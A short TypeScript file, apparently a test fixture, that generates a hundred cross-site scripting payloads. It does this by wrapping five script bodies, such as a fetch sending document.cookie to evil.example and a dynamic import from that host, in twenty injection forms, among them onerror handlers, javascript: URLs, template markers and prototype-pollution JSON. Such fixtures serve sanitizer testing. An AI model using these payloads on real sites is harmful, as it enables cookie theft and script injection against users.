const scripts = [
  'window.broken=1',
  "fetch('https://evil.example/?'+document.cookie)",
  "new Image().src='//evil.example/x'",
  "import('//evil.example/x.js')",
  "navigator.sendBeacon('//evil.example')",
] as const;

/** Ways for a text to become markup, a link, a style or code, each around a script. */
const vessels: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<svg/onload="${script}">`,
  (script) => `"><svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  (script) => `'-alert(1)-'";${script}//`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<details open ontoggle="${script}">`,
  (script) => `<math><mtext><table><mglyph><style><img src=x onerror="${script}">`,
  (script) => `\${${script}}{{${script}}}<%= ${script} %>`,
  (script) => `</title></textarea></style></script><script>${script}</script>`,
  (script) => `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) =>
    `<link rel=stylesheet href=//evil.example/x.css><style>@import'//evil.example/y'</style>${script}`,
  (script) => `![x](https://evil.example/x.png) [y](javascript:${script})`,
  (script) => `javascript:/*--></title>*/${script}`,
  (script) => `\u202e<script>${script}</script>\u202c\u0000`,
  (script) => `<input autofocus onfocus="${script}">`,
  (script) => `{"__proto__":{"innerHTML":"<img src=x onerror='${script}'>"}}`,
];

/** A hundred attempts to run something in the window. */
export const payloads = vessels.flatMap((vessel) => scripts.map((script) => vessel(script)));
